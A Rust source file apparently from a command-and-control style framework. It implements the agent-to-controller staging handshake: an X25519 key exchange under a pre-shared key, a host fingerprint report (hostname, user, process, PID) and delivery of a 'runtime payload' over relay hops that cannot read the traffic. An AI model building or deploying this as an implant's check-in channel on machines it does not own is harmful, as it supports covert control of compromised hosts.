//! Staged key exchange between agent and controller.
//!
//! Four wire steps bootstrap a per-session key from the pre-shared key:
//! the agent offers an ephemeral public key, the controller answers with
//! its own key plus a confirmation nonce and an assigned session ID, the
//! agent echoes the incremented nonce under the derived key together with
//! a host fingerprint, and the controller releases the runtime payload.
//! Any failure is fatal to the attempt; a fresh [`AgentHandshake`] starts
//! over from scratch.
//!
//! Routing headers stay sealed under the pre-shared key for the whole
//! exchange and afterwards, so intermediate hops can frame and relay
//! packets they cannot read. Only payloads move to the session key.

use std::collections::HashMap;
use std::sync::Arc;

use rand::RngCore;
use serde::{Deserialize, Serialize};
use tokio::sync::RwLock;
use tracing::{debug, info};
use x25519_dalek::PublicKey;

use crate::keys::{derive_session_key, generate_ephemeral_keypair, x25519_ecdh};
use crate::routing::{self, ParsedPacket};
use crate::session::{self, Direction, NonceMode, SessionCrypto};
use crate::types::{
    CourierError, MessageKind, PreSharedKey, Result, RuntimeKind, SessionId, SessionKey,
    HANDSHAKE_NONCE_SIZE, PUBLIC_KEY_SIZE,
};

/// Where an agent stands in the staging exchange.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum HandshakePhase {
    /// Nothing sent yet.
    Init,
    /// Ephemeral public key offered, waiting for the controller.
    KeySent,
    /// Session key derived from the controller's answer.
    SessionEstablished,
    /// Confirmation and fingerprint sent, waiting for the runtime payload.
    SysinfoSent,
    /// Staging complete; steady-state traffic may flow.
    Running,
}

impl HandshakePhase {
    fn name(self) -> &'static str {
        match self {
            Self::Init => "Init",
            Self::KeySent => "KeySent",
            Self::SessionEstablished => "SessionEstablished",
            Self::SysinfoSent => "SysinfoSent",
            Self::Running => "Running",
        }
    }
}

/// Host details reported during the confirmation step.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct HostFingerprint {
    /// Machine hostname.
    pub hostname: String,
    /// User the agent runs as.
    pub username: String,
    /// Operating system family.
    pub os: String,
    /// Processor architecture.
    pub arch: String,
    /// Hosting process name.
    pub process: String,
    /// Hosting process ID.
    pub pid: u32,
    /// Internal address, empty when unknown.
    pub internal_ip: String,
}

impl HostFingerprint {
    /// Collect a best-effort fingerprint for the current process.
    pub fn local(process: impl Into<String>) -> Self {
        Self {
            hostname: std::env::var("HOSTNAME").unwrap_or_else(|_| "unknown".to_string()),
            username: std::env::var("USER")
                .or_else(|_| std::env::var("USERNAME"))
                .unwrap_or_else(|_| "unknown".to_string()),
            os: std::env::consts::OS.to_string(),
            arch: std::env::consts::ARCH.to_string(),
            process: process.into(),
            pid: std::process::id(),
            internal_ip: String::new(),
        }
    }
}

// ============================================================================
// Agent Side
// ============================================================================

/// Agent-side staging state machine.
///
/// Each instance is one attempt. The phase advances only on success;
/// dropping the machine cancels the attempt with no state left behind.
pub struct AgentHandshake {
    phase: HandshakePhase,
    psk: PreSharedKey,
    runtime: RuntimeKind,
    ephemeral_private: x25519_dalek::StaticSecret,
    ephemeral_public: PublicKey,
    session_id: SessionId,
    session_key: Option<SessionKey>,
    controller_nonce: u64,
}

impl AgentHandshake {
    /// Start a fresh attempt with a new ephemeral keypair.
    pub fn new(psk: PreSharedKey, runtime: RuntimeKind) -> Self {
        let (ephemeral_private, ephemeral_public) = generate_ephemeral_keypair();
        Self {
            phase: HandshakePhase::Init,
            psk,
            runtime,
            ephemeral_private,
            ephemeral_public,
            session_id: SessionId::placeholder(),
            session_key: None,
            controller_nonce: 0,
        }
    }

    /// Current phase.
    pub fn phase(&self) -> HandshakePhase {
        self.phase
    }

    /// Controller-assigned session ID; the placeholder until stage one
    /// completes.
    pub fn session_id(&self) -> SessionId {
        self.session_id
    }

    /// Build the staging request: the agent's ephemeral public key sealed
    /// under the pre-shared key, sent with the placeholder session ID.
    pub fn stage_one_request(&mut self) -> Result<Vec<u8>> {
        self.require_phase(HandshakePhase::Init)?;

        let sealed = session::seal_message(self.psk.as_bytes(), self.ephemeral_public.as_bytes());
        let packet = routing::build(
            self.psk.as_bytes(),
            SessionId::placeholder(),
            self.runtime,
            MessageKind::StagingRequest,
            0,
            &sealed,
        )?;

        self.phase = HandshakePhase::KeySent;
        debug!("staging request built");
        Ok(packet)
    }

    /// Absorb the controller's answer and derive the session key.
    ///
    /// The packet must have been parsed under the pre-shared key; its
    /// header carries the assigned session ID and its payload the
    /// confirmation nonce plus the controller's ephemeral public key.
    pub fn absorb_stage_one_response(&mut self, packet: &ParsedPacket) -> Result<()> {
        self.require_phase(HandshakePhase::KeySent)?;

        if packet.header.kind != MessageKind::ServerResponse {
            return Err(CourierError::HandshakeFailure(format!(
                "expected a server response, got {:?}",
                packet.header.kind
            )));
        }
        if packet.header.session_id.is_placeholder() {
            return Err(CourierError::HandshakeFailure(
                "controller did not assign a session id".to_string(),
            ));
        }

        let plaintext = session::open_message(self.psk.as_bytes(), &packet.payload)?;
        if plaintext.len() != HANDSHAKE_NONCE_SIZE + PUBLIC_KEY_SIZE {
            return Err(CourierError::HandshakeFailure(format!(
                "staging response carries {} bytes, expected {}",
                plaintext.len(),
                HANDSHAKE_NONCE_SIZE + PUBLIC_KEY_SIZE
            )));
        }

        let mut nonce_bytes = [0u8; HANDSHAKE_NONCE_SIZE];
        nonce_bytes.copy_from_slice(&plaintext[..HANDSHAKE_NONCE_SIZE]);
        self.controller_nonce = u64::from_le_bytes(nonce_bytes);

        let mut public_bytes = [0u8; PUBLIC_KEY_SIZE];
        public_bytes.copy_from_slice(&plaintext[HANDSHAKE_NONCE_SIZE..]);
        let controller_public = PublicKey::from(public_bytes);

        let shared = x25519_ecdh(&self.ephemeral_private, &controller_public);
        let key = derive_session_key(
            &shared,
            &self.psk,
            &self.ephemeral_public,
            &controller_public,
            &packet.header.session_id,
        )?;

        self.session_id = packet.header.session_id;
        self.session_key = Some(key);
        self.phase = HandshakePhase::SessionEstablished;
        debug!(session = %self.session_id, "session key established");
        Ok(())
    }

    /// Build the confirmation packet: the incremented nonce and the host
    /// fingerprint, sealed under the new session key. The routing header
    /// remains under the pre-shared key.
    pub fn stage_two_request(&mut self, fingerprint: &HostFingerprint) -> Result<Vec<u8>> {
        self.require_phase(HandshakePhase::SessionEstablished)?;
        let key = self.established_key()?.clone();

        let body = serde_json::to_vec(fingerprint).map_err(|e| {
            CourierError::HandshakeFailure(format!("fingerprint serialization failed: {}", e))
        })?;
        let mut plaintext = Vec::with_capacity(HANDSHAKE_NONCE_SIZE + body.len());
        plaintext.extend_from_slice(&self.controller_nonce.wrapping_add(1).to_le_bytes());
        plaintext.extend_from_slice(&body);

        let sealed = session::seal_message(key.as_bytes(), &plaintext);
        let packet = routing::build(
            self.psk.as_bytes(),
            self.session_id,
            self.runtime,
            MessageKind::StagingResponse,
            0,
            &sealed,
        )?;

        self.phase = HandshakePhase::SysinfoSent;
        debug!(session = %self.session_id, "confirmation built");
        Ok(packet)
    }

    /// Absorb the final staging packet and return the runtime payload.
    ///
    /// The packet must have been parsed under the pre-shared key; its
    /// payload opens under the session key.
    pub fn absorb_stage_two_response(&mut self, packet: &ParsedPacket) -> Result<Vec<u8>> {
        self.require_phase(HandshakePhase::SysinfoSent)?;

        if packet.header.kind != MessageKind::ServerResponse {
            return Err(CourierError::HandshakeFailure(format!(
                "expected a server response, got {:?}",
                packet.header.kind
            )));
        }

        let key = self.established_key()?;
        let payload = session::open_message(key.as_bytes(), &packet.payload)?;

        self.phase = HandshakePhase::Running;
        info!(session = %self.session_id, "staging complete");
        Ok(payload)
    }

    /// Hand the completed session over for steady-state traffic.
    pub fn into_session(self, mode: NonceMode) -> Result<(SessionId, SessionCrypto)> {
        if self.phase != HandshakePhase::Running {
            return Err(CourierError::WrongPhase {
                expected: HandshakePhase::Running.name(),
                actual: self.phase.name(),
            });
        }
        let key = self.established_key()?.clone();
        Ok((
            self.session_id,
            SessionCrypto::new(key, Direction::FromAgent, mode),
        ))
    }

    fn require_phase(&self, expected: HandshakePhase) -> Result<()> {
        if self.phase != expected {
            return Err(CourierError::WrongPhase {
                expected: expected.name(),
                actual: self.phase.name(),
            });
        }
        Ok(())
    }

    fn established_key(&self) -> Result<&SessionKey> {
        self.session_key.as_ref().ok_or_else(|| {
            CourierError::HandshakeFailure("no session key derived yet".to_string())
        })
    }
}

// ============================================================================
// Session Table
// ============================================================================

/// Controller-side record of one staged session.
#[derive(Debug, Clone)]
pub struct SessionRecord {
    /// Key derived for this session.
    pub key: SessionKey,
    /// Nonce the agent must echo incremented in its confirmation.
    pub handshake_nonce: u64,
    /// Whether the confirmation step has completed.
    pub established: bool,
    /// Runtime family reported in the staging request header.
    pub runtime: RuntimeKind,
}

/// In-memory map of live sessions on the controller.
#[derive(Default, Clone)]
pub struct SessionTable {
    sessions: Arc<RwLock<HashMap<SessionId, SessionRecord>>>,
}

impl SessionTable {
    /// Creates an empty table.
    pub fn new() -> Self {
        Self::default()
    }

    /// Store a record for a session.
    pub async fn insert(&self, id: SessionId, record: SessionRecord) {
        let mut sessions = self.sessions.write().await;
        sessions.insert(id, record);
    }

    /// Fetch a session's record.
    pub async fn get(&self, id: &SessionId) -> Option<SessionRecord> {
        let sessions = self.sessions.read().await;
        sessions.get(id).cloned()
    }

    /// Fetch just a session's key.
    pub async fn session_key(&self, id: &SessionId) -> Option<SessionKey> {
        let sessions = self.sessions.read().await;
        sessions.get(id).map(|record| record.key.clone())
    }

    /// Flip a session to established after its confirmation verified.
    pub async fn mark_established(&self, id: &SessionId) -> Result<()> {
        let mut sessions = self.sessions.write().await;
        match sessions.get_mut(id) {
            Some(record) => {
                record.established = true;
                Ok(())
            }
            None => Err(CourierError::HandshakeFailure(format!(
                "unknown session {}",
                id
            ))),
        }
    }

    /// Drop a session.
    pub async fn remove(&self, id: &SessionId) -> Option<SessionRecord> {
        let mut sessions = self.sessions.write().await;
        sessions.remove(id)
    }

    /// IDs of every live session.
    pub async fn session_ids(&self) -> Vec<SessionId> {
        let sessions = self.sessions.read().await;
        sessions.keys().copied().collect()
    }

    /// Number of live sessions.
    pub async fn len(&self) -> usize {
        let sessions = self.sessions.read().await;
        sessions.len()
    }

    /// Whether no sessions are live.
    pub async fn is_empty(&self) -> bool {
        self.len().await == 0
    }
}

// ============================================================================
// Controller Side
// ============================================================================

/// Controller-side staging responder.
///
/// Stateless between calls except for the session table, so one responder
/// serves any number of concurrent agents.
pub struct ControllerHandshake {
    psk: PreSharedKey,
    sessions: SessionTable,
}

impl ControllerHandshake {
    /// Create a responder around a pre-shared key.
    pub fn new(psk: PreSharedKey) -> Self {
        Self {
            psk,
            sessions: SessionTable::new(),
        }
    }

    /// Table of staged sessions, shared with the serving loop.
    pub fn sessions(&self) -> &SessionTable {
        &self.sessions
    }

    /// Answer a staging request: assign a session ID, derive the session
    /// key and build the sealed response packet.
    ///
    /// The packet must have been parsed under the pre-shared key.
    pub async fn respond_stage_one(&self, packet: &ParsedPacket) -> Result<Vec<u8>> {
        if packet.header.kind != MessageKind::StagingRequest {
            return Err(CourierError::HandshakeFailure(format!(
                "expected a staging request, got {:?}",
                packet.header.kind
            )));
        }

        let plaintext = session::open_message(self.psk.as_bytes(), &packet.payload)?;
        if plaintext.len() != PUBLIC_KEY_SIZE {
            return Err(CourierError::HandshakeFailure(format!(
                "staging request carries {} bytes, expected {}",
                plaintext.len(),
                PUBLIC_KEY_SIZE
            )));
        }
        let mut agent_public_bytes = [0u8; PUBLIC_KEY_SIZE];
        agent_public_bytes.copy_from_slice(&plaintext);
        let agent_public = PublicKey::from(agent_public_bytes);

        let (controller_private, controller_public) = generate_ephemeral_keypair();
        let session_id = SessionId::random();
        let handshake_nonce = rand::thread_rng().next_u64();

        let shared = x25519_ecdh(&controller_private, &agent_public);
        let key = derive_session_key(
            &shared,
            &self.psk,
            &agent_public,
            &controller_public,
            &session_id,
        )?;

        self.sessions
            .insert(
                session_id,
                SessionRecord {
                    key,
                    handshake_nonce,
                    established: false,
                    runtime: packet.header.runtime,
                },
            )
            .await;

        let mut response_plain = Vec::with_capacity(HANDSHAKE_NONCE_SIZE + PUBLIC_KEY_SIZE);
        response_plain.extend_from_slice(&handshake_nonce.to_le_bytes());
        response_plain.extend_from_slice(controller_public.as_bytes());

        let sealed = session::seal_message(self.psk.as_bytes(), &response_plain);
        let response = routing::build(
            self.psk.as_bytes(),
            session_id,
            RuntimeKind::None,
            MessageKind::ServerResponse,
            0,
            &sealed,
        )?;

        info!(session = %session_id, runtime = ?packet.header.runtime, "session staged");
        Ok(response)
    }

    /// Verify an agent's confirmation and release the runtime payload.
    ///
    /// The packet must have been parsed under the pre-shared key; the
    /// payload opens under the key of the session named in the header.
    /// A failed confirmation removes the pending session; the agent has
    /// to restage.
    ///
    /// # Returns
    /// The reported fingerprint and the sealed response packet
    pub async fn respond_stage_two(
        &self,
        packet: &ParsedPacket,
        runtime_payload: &[u8],
    ) -> Result<(HostFingerprint, Vec<u8>)> {
        if packet.header.kind != MessageKind::StagingResponse {
            return Err(CourierError::HandshakeFailure(format!(
                "expected a staging confirmation, got {:?}",
                packet.header.kind
            )));
        }

        let session_id = packet.header.session_id;
        let record = self.sessions.get(&session_id).await.ok_or_else(|| {
            CourierError::HandshakeFailure(format!("unknown session {}", session_id))
        })?;
        if record.established {
            return Err(CourierError::HandshakeFailure(format!(
                "session {} already confirmed",
                session_id
            )));
        }

        let plaintext = match session::open_message(record.key.as_bytes(), &packet.payload) {
            Ok(plaintext) => plaintext,
            Err(e) => {
                self.sessions.remove(&session_id).await;
                return Err(e);
            }
        };
        if plaintext.len() < HANDSHAKE_NONCE_SIZE {
            self.sessions.remove(&session_id).await;
            return Err(CourierError::HandshakeFailure(
                "confirmation payload too short".to_string(),
            ));
        }

        let mut echo = [0u8; HANDSHAKE_NONCE_SIZE];
        echo.copy_from_slice(&plaintext[..HANDSHAKE_NONCE_SIZE]);
        if u64::from_le_bytes(echo) != record.handshake_nonce.wrapping_add(1) {
            self.sessions.remove(&session_id).await;
            return Err(CourierError::HandshakeFailure(format!(
                "confirmation nonce mismatch for session {}",
                session_id
            )));
        }

        let fingerprint =
            match serde_json::from_slice::<HostFingerprint>(&plaintext[HANDSHAKE_NONCE_SIZE..]) {
                Ok(fingerprint) => fingerprint,
                Err(e) => {
                    self.sessions.remove(&session_id).await;
                    return Err(CourierError::HandshakeFailure(format!(
                        "fingerprint deserialization failed: {}",
                        e
                    )));
                }
            };

        self.sessions.mark_established(&session_id).await?;

        let sealed = session::seal_message(record.key.as_bytes(), runtime_payload);
        let response = routing::build(
            self.psk.as_bytes(),
            session_id,
            RuntimeKind::None,
            MessageKind::ServerResponse,
            0,
            &sealed,
        )?;

        info!(session = %session_id, host = %fingerprint.hostname, "session confirmed");
        Ok((fingerprint, response))
    }
}
